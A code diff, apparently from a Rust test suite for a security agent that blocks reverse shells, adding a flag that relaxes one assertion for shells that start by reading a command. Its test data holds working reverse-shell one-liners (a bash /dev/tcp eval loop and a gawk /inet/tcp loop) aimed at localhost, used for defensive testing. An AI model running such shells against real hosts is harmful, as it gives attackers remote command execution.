@@ -26,6 +26,9 @@ enum Subject {
 struct Attack {
     wire: Wire,
     subject: Subject,
+    /// Until the first command comes it is a client that reads from its server, as an honest one
+    /// may: only what it does with that command makes it a shell.
+    born_of_a_command: bool,
     /// Programs beyond those that every machine has.
     needs: &'static [&'static str],
     /// The script for these tools that reaches back to the port.
@@ -37,6 +40,7 @@ impl Attack {
         Self {
             wire: Wire::Clear,
             subject: Subject::Shell,
+            born_of_a_command: false,
             needs,
             script,
         }
@@ -44,6 +48,11 @@ impl Attack {
 
     const fn by_an_interpreter(mut self) -> Self {
         self.subject = Subject::ShellOrInterpreter;
+        self
+    }
+
+    const fn born_of_a_command(mut self) -> Self {
+        self.born_of_a_command = true;
         self
     }
 
@@ -67,7 +76,8 @@ const BASH_READ_LOOP: Attack = Attack::new(&["bash"], |tools, port| {
     format!(
         r#"{bash} -c 'exec 5<>/dev/tcp/127.0.0.1/{port}; while read -r line <&5; do eval "$line" >&5 2>&5; done'"#
     )
-});
+})
+.born_of_a_command();
 
 const PYTHON: Attack = Attack::new(&["python3"], |tools, port| {
     let (python, sh) = (tools.get("python3"), tools.get("sh"));
@@ -189,7 +199,8 @@ const GAWK: Attack = Attack::new(&["gawk"], |tools, port| {
         r#"{gawk} 'BEGIN{{s="/inet/tcp/0/127.0.0.1/{port}"
 while((s|&getline c)>0){{print c|&"{sh}";"{sh}"|&getline l;print l|&s}}}}'"#
     )
-});
+})
+.born_of_a_command();
 
 /// Without any agent: an attack that yields no shell would prove nothing.
 fn control(attack: &Attack, place: Place, names: Names) {
@@ -311,9 +322,8 @@ fn enforce(agent: &Agent, attack: &Attack, place: Place, names: Names) {
     );
     // Until well after the remote end has sent its command.
     let reply = running.listener().reply(20 * FIRST_COMMAND_AFTER);
-    assert_eq!(
-        reply,
-        None,
+    assert!(
+        reply.is_none() || attack.born_of_a_command,
         "the remote end gets no answer ({what}): {}",
         running.log()
     );
